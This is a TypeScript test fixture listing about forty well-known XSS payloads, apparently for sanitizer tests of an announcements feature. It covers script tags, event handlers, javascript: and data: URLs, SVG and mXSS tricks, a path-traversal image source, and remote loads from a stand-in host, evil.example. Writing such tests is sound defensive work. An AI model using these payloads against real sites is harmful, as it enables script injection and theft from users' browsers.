// Well-known XSS payloads (OWASP filter-evasion cheat sheet, PortSwigger's list, mXSS reports).
// Each one, if it ever ran, would set window.__xss and/or open a dialog: the browser test watches for both.
// Shared by the server tests (stored HTML is clean) and e2e/announcements.spec.ts (nothing runs).

const RUN = "window.__xss=1;alert(1)";
const RUN_B64 = Buffer.from(`<script>${RUN}</script>`).toString("base64");
const SVG_B64 = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString("base64");

export const XSS_VECTORS: Record<string, string> = {
  "script tag": `<script>${RUN}</script>`,
  "script with src": '<script src="https://evil.example/x.js"></script>',
  "img onerror": `<img src=x onerror="${RUN}">`,
  "allowed img with onerror": `<img src="https://images.example.org/a.png" onerror="${RUN}" onload="${RUN}">`,
  "event handler on paragraph": `<p onmouseover="${RUN}" onclick="${RUN}">hover me</p>`,
  "body onload": `<body onload="${RUN}">`,
  "input autofocus": `<input autofocus onfocus="${RUN}">`,
  "details ontoggle": `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  "video source onerror": `<video><source onerror="${RUN}"></video>`,
  "javascript link": `<a href="javascript:${RUN}">click</a>`,
  "mixed-case javascript link": `<a href="JaVaScRiPt:${RUN}">click</a>`,
  "entity-encoded javascript link":
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">click</a>',
  "tab-split javascript link": '<a href="jav&#x09;ascript:alert(1)">click</a>',
  "leading-space javascript link": `<a href=" javascript:${RUN}">click</a>`,
  "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
  "svg onload": `<svg onload="${RUN}"><circle r="5"/></svg>`,
  "svg script": `<svg><script>${RUN}</script></svg>`,
  "svg animate href": `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  "svg data image": `<img src="data:image/svg+xml;base64,${SVG_B64}">`,
  "data URL link": `<a href="data:text/html;base64,${RUN_B64}">data</a>`,
  "data URL image": '<img src="data:image/png;base64,iVBORw0KGgo=">',
  "iframe javascript": `<iframe src="javascript:${RUN}"></iframe>`,
  "iframe srcdoc": `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  "object data": `<object data="javascript:${RUN}"></object>`,
  "embed src": `<embed src="data:text/html;base64,${RUN_B64}">`,
  "form action": `<form action="javascript:${RUN}"><button>go</button></form>`,
  "button formaction": `<button formaction="javascript:${RUN}">go</button>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  "base href": '<base href="javascript:/">',
  "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
  "style element": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  "style attribute": '<p style="background:url(javascript:alert(1));position:fixed;inset:0">styled</p>',
  "malformed nesting": `<<script>script>${RUN}<</script>/script>`,
  "unclosed tags": "<p><strong>bold <em>both</p> tail</strong><ul><li>one<li>two",
  "broken attribute quotes": `<img """><script>${RUN}</script>">`,
  "mXSS math style": `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  "mXSS noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  template: `<template><img src=x onerror="${RUN}"></template>`,
  "comment breakout": `<!--><img src=x onerror="${RUN}">-->`,
  cdata: `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  "srcset javascript": `<img src="https://images.example.org/a.png" srcset="javascript:${RUN}">`,
  "protocol-relative image": '<img src="//evil.example/track.png">',
  "path-escaping media image": '<img src="/media/../../etc/passwd">',
};

/** Every vector in one document, as an author might paste it. */
export const XSS_CONTENT = `<p>Safe intro text.</p>${Object.values(XSS_VECTORS).join("\n")}<p>Safe closing text.</p>`;

/** The plain-text comments carry the same payloads: they must show as text. */
export const XSS_COMMENTS = [
  XSS_VECTORS["script tag"],
  XSS_VECTORS["img onerror"],
  XSS_VECTORS["svg onload"],
  XSS_VECTORS["javascript link"],
] as string[];
